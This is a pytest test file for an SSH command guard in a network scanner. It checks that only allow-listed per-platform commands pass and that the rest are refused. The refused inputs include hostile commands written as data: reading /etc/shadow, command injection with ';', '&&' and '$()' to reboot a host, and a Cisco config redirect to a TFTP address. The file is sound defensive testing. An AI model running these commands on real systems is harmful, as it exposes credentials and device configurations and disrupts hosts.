"""What may be said inside SSH: whole commands of a platform's list, and three words of login."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.errors import GuardRefused
from scanner.guards import open_guard
from scanner.guards.ssh_command import COMMANDS
from scanner.model import Tier


def judge(text: str, tier: Tier = Tier.LOGIN) -> str | None:
    return open_guard("ssh-command").judge(text.encode(), tier)


EVERY = [(platform, command) for platform in COMMANDS for command in sorted(COMMANDS[platform])]


@pytest.mark.parametrize(("platform", "command"), EVERY)
def test_a_listed_command_passes_from_the_read_tier_up(platform: str, command: str) -> None:
    frame = f"exec {platform} {command}"

    assert judge(frame, Tier.READ) is None
    assert judge(frame, Tier.LOGIN) is None
    assert judge(frame, Tier.IDENTIFY)
    assert judge(frame, Tier.PASSIVE)


@pytest.mark.parametrize(
    "frame",
    [
        "exec cisco_ios configure terminal",
        "exec cisco_ios write memory",
        "exec cisco_ios reload",
        "exec cisco_ios copy running-config startup-config",
        "exec cisco_ios enable",
        "exec cisco_ios show running-config | redirect tftp://192.0.2.1/x",
        "exec cisco_ios show version\nreload",
        "exec cisco_ios show version ",
        "exec cisco_ios SHOW VERSION",
        "exec linux reboot",
        "exec linux cat /etc/shadow",
        "exec linux cat /etc/profile; reboot",
        "exec linux who && reboot",
        "exec linux $(reboot)",
        "exec linux who\n",
        "exec linux ",
        "exec linux",
        "exec juniper_junos show version",
        "exec  show version",
        "subsystem sftp",
        "forward 192.0.2.1 22",
        "auth publickey",
        "auth password ",
        "",
        "exec",
    ],
)
def test_everything_else_is_refused_in_every_tier(frame: str) -> None:
    assert all(judge(frame, tier) for tier in Tier)


@given(st.text(max_size=60))
def test_any_command_off_the_list_is_refused(command: str) -> None:
    for platform in COMMANDS:
        if command not in COMMANDS[platform]:
            assert judge(f"exec {platform} {command}")


@given(st.sampled_from(EVERY), st.text(min_size=1, max_size=5), st.booleans())
def test_a_listed_command_with_anything_around_it_is_refused(
    entry: tuple[str, str], more: str, before: bool
) -> None:
    platform, command = entry
    changed = more + command if before else command + more
    if changed not in COMMANDS[platform]:
        assert judge(f"exec {platform} {changed}")


@given(st.binary(max_size=200))
def test_any_bytes_are_refused_or_one_of_the_list(data: bytes) -> None:
    guard = open_guard("ssh-command")
    try:
        frames, rest = guard.split(data)
    except GuardRefused:
        return
    assert (frames, rest) == ((data,), b"")
    if guard.judge(data, Tier.LOGIN) is None:
        assert data.startswith((b"auth ", b"exec "))


@pytest.mark.parametrize(
    ("frame", "lowest"),
    [
        ("auth none", Tier.READ),
        ("auth operator", Tier.READ),
        ("auth password", Tier.LOGIN),
    ],
)
def test_a_login_step_needs_its_tier(frame: str, lowest: Tier) -> None:
    for tier in Tier:
        assert (judge(frame, tier) is None) == tier.allows(lowest)


def test_no_listed_command_carries_a_shell_character() -> None:
    for _, command in EVERY:
        assert not set(command) & set(";|&$`<>\n\r\\'\"(){}*?!~")


def test_a_command_longer_than_any_of_the_list_is_refused_at_once() -> None:
    with pytest.raises(GuardRefused):
        open_guard("ssh-command").split(b"exec linux " + b"x" * 200)
